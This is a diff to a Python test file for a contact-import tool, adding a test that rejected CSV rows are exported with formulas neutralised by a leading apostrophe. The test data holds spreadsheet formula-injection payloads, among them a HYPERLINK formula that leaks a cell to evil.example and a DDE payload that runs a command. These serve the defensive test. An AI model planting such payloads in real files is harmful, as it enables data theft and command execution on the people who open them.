@@ -3,6 +3,7 @@ row reported with its line and reason (and nothing of it written)."""
 
 from __future__ import annotations
 
+import csv
 import io
 import unicodedata
 from datetime import UTC, date, datetime
@@ -11,7 +12,13 @@ from pathlib import Path
 import pytest
 
 from hub.campaigns.csv_text import decode
-from hub.campaigns.importer import ContactImporter, column_map, default_field, read_row
+from hub.campaigns.importer import (
+    ContactImporter,
+    column_map,
+    default_field,
+    read_row,
+    rejects_csv,
+)
 from hub.errors import InvalidRequest
 from hub.inbox.model import Consent, Contact, Identity
 from hub.inbox.sqlite import SqliteStore
@@ -295,3 +302,32 @@ def test_hub_import_reads_an_excel_file_and_says_how(tmp_path: Path) -> None:
     assert "read as Windows-1258, cells separated by ';'" in result.stderr
     assert "4 rows: 3 created, 0 merged, 1 rejected (2 blank rows skipped)" in result.stdout
     assert "line 5: phone: '9,01234567E+08' is in scientific notation" in result.stderr
+
+
+async def test_rejected_rows_come_back_as_text_a_spreadsheet_never_runs(tmp_path: Path) -> None:
+    # The file came from elsewhere (a web form's export); the marketer opens the
+    # rejected rows in Excel to fix them: a formula there would run.
+    store = SqliteStore(tmp_path / "hub.db")
+    await store.open()
+    try:
+        importer = ContactImporter(store, lambda: NOW, default_region="VN")
+        upload = io.StringIO()
+        csv.writer(upload).writerows(
+            [
+                ["name", "phone", "email"],
+                ['=HYPERLINK("http://evil.example/?"&B2,"Xem")', "not-a-phone", ""],
+                ["@SUM(1+1)*cmd|' /C calc'!A0", "", ""],
+                ["-2+3", "+84 90 123", ""],
+            ]
+        )
+        report = await importer.import_csv(io.StringIO(upload.getvalue()))
+        assert len(report.rejected) == 3
+        rows = list(csv.reader(io.StringIO(rejects_csv(report))))
+        assert [row[2] for row in rows[1:]] == [
+            '\'=HYPERLINK("http://evil.example/?"&B2,"Xem")',
+            "'@SUM(1+1)*cmd|' /C calc'!A0",
+            "'-2+3",
+        ]
+        assert rows[3][3] == "'+84 90 123"
+    finally:
+        await store.close()
